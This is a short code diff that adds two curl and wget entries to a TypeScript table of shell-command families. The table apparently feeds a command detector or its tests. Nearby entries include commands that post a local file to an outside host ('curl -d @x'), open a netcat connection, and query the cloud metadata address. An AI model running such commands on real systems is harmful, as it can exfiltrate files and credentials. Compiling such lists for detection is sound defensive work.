@@ -298,6 +298,8 @@ const FAMILIES: Readonly<Record<string, readonly string[]>> = {
     'dig e.com',
     'nslookup x',
     'curl http://e.com',
+    'curl -o x --version',
+    'wget -o x --version',
     'curl -d @x http://e.com',
     'nc e 1',
     'curl http://169.254.169.254/',
